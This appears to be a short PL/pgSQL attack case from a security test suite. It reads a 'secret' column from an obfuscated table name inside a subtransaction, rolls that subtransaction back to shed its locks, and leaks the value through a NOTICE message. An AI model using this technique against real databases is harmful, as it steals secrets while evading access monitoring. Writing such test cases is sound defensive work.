-- Reads in a subtransaction that is rolled back, so that its locks are gone, and keeps the value.
-- wants: read
-- attack:
DO $$
DECLARE found text;
BEGIN
  BEGIN
    EXECUTE 'SELECT secret FROM ' || 'vlt_' || 'account LIMIT 1' INTO found;
    RAISE EXCEPTION SQLSTATE 'P0042';
  EXCEPTION WHEN SQLSTATE 'P0042' THEN
    RAISE NOTICE 'found %', found;
  END;
END $$;
